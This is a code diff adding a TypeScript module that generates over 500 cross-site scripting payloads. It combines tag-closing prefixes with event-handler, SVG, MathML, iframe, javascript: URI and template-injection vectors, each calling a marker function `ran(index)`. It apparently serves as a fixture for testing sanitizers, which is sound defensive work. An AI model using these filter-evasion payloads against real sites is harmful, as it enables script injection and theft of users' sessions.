@@ -1,0 +1,91 @@
+/** What ends the place that a text stands in, were it written as HTML: an attribute, an element whose content is raw, a comment, a text of a script. */
+const CLOSERS: readonly string[] = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '">\'>`>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '</textarea>',
+  '</template>',
+  '</noscript>',
+  '</svg>',
+  '-->',
+  ']]>',
+  '</p></td></table></dialog>',
+  '\u0000\ufeff',
+];
+
+/** Markup that runs a call, by elements and events that a browser sets off by itself. */
+const VECTORS: readonly ((call: string) => string)[] = [
+  (call) => `<img src=x: onerror=${call}>`,
+  (call) => `<IMG SRC="x:" OnErRoR="${call}">`,
+  (call) => `<img/src="x:"/onerror=${call}//`,
+  (call) => `<img src=x:\tonerror\n=\r${call} x`,
+  (call) => `<image src=x: onerror=${call}>`,
+  (call) => `<img src=x: onerror=&#${call.charCodeAt(0)};${call.slice(1)}>`,
+  (call) => `<img srcset=x: onerror=${call}>`,
+  (call) => `<picture><source srcset=x:><img onerror=${call}></picture>`,
+  (call) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" onload=${call}>`,
+  (call) => `<svg onload=${call}>`,
+  (call) => `<svg/onload=${call}//`,
+  (call) => `<svg><image href=x: onerror=${call}></svg>`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
+  (call) => `<svg><set onbegin=${call} attributename=x></svg>`,
+  (call) => `<svg><script>${call}</script></svg>`,
+  (call) => `<math><mtext><img src=x: onerror=${call}></math>`,
+  (call) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x: onerror=${call}&gt;">`,
+  (call) => `<noscript><p title="</noscript><img src=x: onerror=${call}>">`,
+  (call) => `<style><img title="</style><img src=x: onerror=${call}>">`,
+  (call) => `<video><source onerror=${call} src=x:></video>`,
+  (call) => `<video src=x: onerror=${call}></video>`,
+  (call) => `<audio src=x: onerror=${call}></audio>`,
+  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
+  (call) => `<iframe onload=${call}></iframe>`,
+  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
+  (call) => `<object data="javascript:parent.${call}" onerror=${call}></object>`,
+  (call) => `<embed src="javascript:parent.${call}" onload=${call}>`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `<x-y tabindex=1 autofocus contenteditable onfocus=${call}>x</x-y>`,
+  (call) => `<link rel=stylesheet href="data:text/css," onload=${call}>`,
+  (call) =>
+    `<style>@keyframes x{from{top:0}}</style><p style="animation:x 1ms" onanimationstart=${call}>x</p>`,
+  (call) => `<marquee onstart=${call}>x</marquee>`,
+  (call) => `<script>${call}</script>`,
+  (call) => `<script src="data:text/javascript,${call}"></script>`,
+  (call) => `<div><template shadowrootmode=open><img src=x: onerror=${call}></template></div>`,
+];
+
+/** What only a template language, or a reader of addresses or styles, would run. */
+const OTHERS: readonly ((call: string) => string)[] = [
+  (call) => `javascript:${call}`,
+  (call) => `JaVa\tScRiPt:${call}`,
+  (call) => `\u0001javascript:${call}`,
+  (call) => `data:text/html,<script>parent.${call}</script>`,
+  (call) => `vbscript:${call}`,
+  (call) => `{{constructor.constructor('${call}')()}}`,
+  (call) => `\${${call}}`,
+  (call) => `<%= ${call} %>`,
+  (call) => `<!--?lit$1$--><img src=x: onerror=${call}><!--?-->`,
+  (call) => `';${call};'`,
+  (call) => `";${call};"`,
+  (call) => `\\u0027;${call};//`,
+  (call) => `\u2028${call}\u2029`,
+  (call) => `&lt;img src=x: onerror=${call}&gt;`,
+  (call) => `%3Cimg%20src%3Dx%3A%20onerror%3D${call}%3E`,
+  (call) => `\ud800<img src=x: onerror=${call}>`,
+  (call) => `\u202e<img src=x: onerror=${call}>`,
+  (call) => `[x](javascript:${call})`,
+  (call) => `**<img src=x: onerror=${call}>**`,
+  (call) => `expression(${call})`,
+];
+
+/** Over 500 texts that would run `ran(<their index>)` where a text is taken for more than a text. */
+export const XSS_PAYLOADS: readonly string[] = [
+  ...CLOSERS.flatMap((closer) => VECTORS.map((vector) => (call: string) => closer + vector(call))),
+  ...OTHERS,
+].map((payload, index) => payload(`ran(${index})`));
